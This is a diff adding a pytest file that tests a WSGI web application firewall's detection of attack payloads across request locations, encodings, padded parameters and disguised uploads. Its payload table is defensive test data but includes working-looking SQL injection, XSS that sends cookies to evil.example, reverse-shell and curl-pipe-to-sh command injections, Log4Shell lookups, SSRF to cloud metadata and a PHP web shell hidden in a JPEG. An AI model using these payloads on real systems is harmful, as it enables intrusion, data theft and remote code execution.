@@ -1,0 +1,163 @@
+"""What attackers send is found, wherever they put it and however they wrap it."""
+
+from __future__ import annotations
+
+import base64
+from urllib.parse import quote
+
+import pytest
+
+from guard_wsgi.detection import Inspection
+from tests.detection.requests import PLACES, environ, findings_in
+
+ATTACKS = {
+    "sqli": (
+        "1' OR '1'='1' -- -",
+        "1'/**/or/**/1=1#",
+        "-1 UNION ALL SELECT NULL,username,password FROM users--",
+        "1; DROP TABLE users--",
+        "1 AND (SELECT 5 FROM (SELECT SLEEP(5))x)",
+        "admin'--",
+        '") or ("a"="a',
+        "1'||(select extractvalue(1,concat(0x7e,version())))||'",
+    ),
+    "xss": (
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(document.cookie)>",
+        '" onmouseover="alert(1)" x="',
+        "javascript:alert(1)//",
+        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
+        "';alert(String.fromCharCode(88,83,83))//",
+    ),
+    "cmd_injection": (
+        "127.0.0.1; cat /etc/passwd",
+        "x | nc -e /bin/sh 10.0.0.1 4444",
+        "$(curl http://evil.example/x.sh|sh)",
+        "`wget http://evil.example/a -O /tmp/a`",
+        "a;cat${IFS}/etc/passwd",
+    ),
+    "path": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow"),
+    "template": (
+        "{{7*7}}",
+        "${7*7}",
+        "<%= system('id') %>",
+        "{{''.__class__.__mro__[1].__subclasses__()}}",
+    ),
+    "log4shell": (
+        "${jndi:ldap://evil.example/a}",
+        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
+    ),
+    "xml": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',),
+    "ldap": ("*)(uid=*))(|(uid=*", "admin)(&(password=*))"),
+    "ssi": ('<!--#exec cmd="ls /" -->',),
+    "code": (
+        "<?php system($_GET['c']); ?>",
+        "__import__('os').system('id')",
+        "require('child_process').exec('id')",
+    ),
+    "ssrf": (
+        "http://169.254.169.254/latest/meta-data/",
+        "gopher://127.0.0.1:6379/_INFO",
+        "php://filter/convert.base64-encode/resource=index.php",
+    ),
+    "serial": ('O:8:"Evil\\Code":1:{s:1:"a";i:1;}', "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
+}
+ALL = [payload for payloads in ATTACKS.values() for payload in payloads]
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("payload", ALL)
+def test_a_plain_attack_is_found_in_every_place(
+    inspection: Inspection, place: str, payload: str
+) -> None:
+    assert findings_in(inspection, place, payload)
+
+
+@pytest.mark.parametrize(
+    "family", ["sqli", "xss", "cmd_injection", "template", "log4shell", "xml", "ldap", "ssi"]
+)
+def test_the_category_says_what_it_is(inspection: Inspection, family: str) -> None:
+    """Of the first payload of each family."""
+    assert findings_in(inspection, "query", ATTACKS[family][0])[0].category == family
+
+
+def twice(payload: str) -> str:
+    return quote(quote(payload, safe=""), safe="")
+
+
+def entities(payload: str) -> str:
+    return "".join(f"&#x{ord(character):x};" for character in payload)
+
+
+def escapes(payload: str) -> str:
+    return "".join(f"\\u{ord(character):04x}" for character in payload)
+
+
+def percent_u(payload: str) -> str:
+    return "".join(f"%u{ord(character):04x}" for character in payload)
+
+
+def wide(payload: str) -> str:
+    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in payload)
+
+
+def wrapped(payload: str) -> str:
+    return base64.b64encode(payload.encode()).decode()
+
+
+@pytest.mark.parametrize("encode", [twice, entities, escapes, percent_u, wide, wrapped])
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "1' OR '1'='1' -- -",
+        "<script>alert(1)</script>",
+        "127.0.0.1; cat /etc/passwd",
+        "../../../../etc/passwd",
+        "-1 UNION SELECT 1,2,3 FROM users",
+    ],
+)
+def test_an_encoded_attack_is_found(inspection: Inspection, encode: object, payload: str) -> None:
+    assert callable(encode)
+    assert findings_in(inspection, "query", encode(payload))
+    assert findings_in(inspection, "json", encode(payload))
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/.git/config",
+        "/.env",
+        "/wp-config.php.bak",
+        "/static/..;/manager/html",
+        "/cgi-bin/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+    ],
+)
+def test_a_probe_in_the_path_is_found(inspection: Inspection, path: str) -> None:
+    assert inspection.head(environ(path=path))
+
+
+def test_every_repeat_of_a_parameter_is_seen(inspection: Inspection) -> None:
+    """Lesson 2: only the first value of a name was looked at."""
+    assert inspection.head(environ(query="q=safe&q=" + quote("1' or '1'='1")))
+
+
+def test_filler_does_not_hide_an_attack(inspection: Inspection) -> None:
+    """Lesson 3: 300 parameters in front, or half a megabyte."""
+    many = "&".join(f"p{number}=x" for number in range(3000))
+    assert inspection.head(environ(query=many + "&q=%3Cscript%3Ealert(1)%3C/script%3E"))
+    body = b"a=" + b"lorem ipsum " * 15000 + b"&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
+    assert inspection.body(body, content_type="application/x-www-form-urlencoded")
+    body = b"a=" + b"lorem ipsum " * 15000 + b"1' union select password from users-- -"
+    assert inspection.body(body, content_type="application/x-www-form-urlencoded")
+
+
+def test_an_upload_with_a_script_is_found(inspection: Inspection) -> None:
+    part = (
+        b'--X\r\nContent-Disposition: form-data; name="f"; filename="a.php.jpg"\r\n'
+        b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\x00\x10JFIF"
+        + bytes(range(256)) * 4
+        + b"<?php system($_GET['c']); ?>\r\n--X--\r\n"
+    )
+    found = inspection.body(part, content_type="multipart/form-data; boundary=X")
+    assert {finding.location for finding in found} == {"multipart"}
+    assert "file_upload" in {finding.category for finding in found}
